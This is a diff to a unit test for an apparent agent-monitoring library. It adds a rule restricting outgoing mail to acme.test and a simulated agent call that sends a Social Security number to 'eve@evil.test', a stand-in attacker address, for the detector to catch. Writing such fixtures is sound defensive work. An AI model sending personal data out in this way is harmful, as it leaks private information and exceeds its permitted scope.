@@ -13,9 +13,9 @@ from stopwork.detect.registry import DETECTORS, DetectorFailed, Watch, restore
 from stopwork.detect.rulebook import Rulebook
 from stopwork.ledger.events import EVENT_TYPES, Entry, Event
 from stopwork.ledger.records import Reason, Record
-from stopwork.ledger.words import ReasonKind, RunStatus, ScopeKind, Verdict
+from stopwork.ledger.words import EffectKind, ReasonKind, RunStatus, ScopeKind, Verdict
 from stopwork.manifest.model import Alerts
-from tests.unit.detect.manifests import manifest
+from tests.unit.detect.manifests import TOOLS, manifest
 from tests.unit.detect.story import START, Story, rules_of
 
 RULES = rules_of(
@@ -23,6 +23,7 @@ RULES = rules_of(
         budget={"run_usd": 2.5},
         sources={"inbox": {"trust": "external", "fresh_within": "1d"}},
         schedule={"cron": "0 8 * * MON", "timezone": "America/New_York", "finish_within": "45m"},
+        tools=TOOLS | {"mail.send": TOOLS["mail.send"] | {"only_to": ["acme.test"]}},
         alerts={"duplicate_action": {"key": ["args.same"]}, "loop": {"repeats": 5}},
     )
 )
@@ -34,6 +35,7 @@ def bad_week() -> Story:
     story = Story(START - timedelta(days=1)).applied().after(days=1).run("r1")
     for number in range(5):
         story.call(f"again{number}", "r1", tool="crm.list_accounts", verdict=Verdict.DENY)
+    story.call("M", tool="mail.send", effect=EffectKind.SEND, to="eve@evil.test", body="SSN 536-22-8714")
     story.retrieval("inbox", old=timedelta(days=3)).call("P", verdict=Verdict.DENY, reasons=(PAST_DUE,))
     story.step(cost_usd=2.4).call("A", same="acme").timed_out("A").call("B", same="acme").outcome("B")
     story.after(minutes=5).call("C", same="acme").hold("h1", ScopeKind.TOOL, "crm.create_task").step(
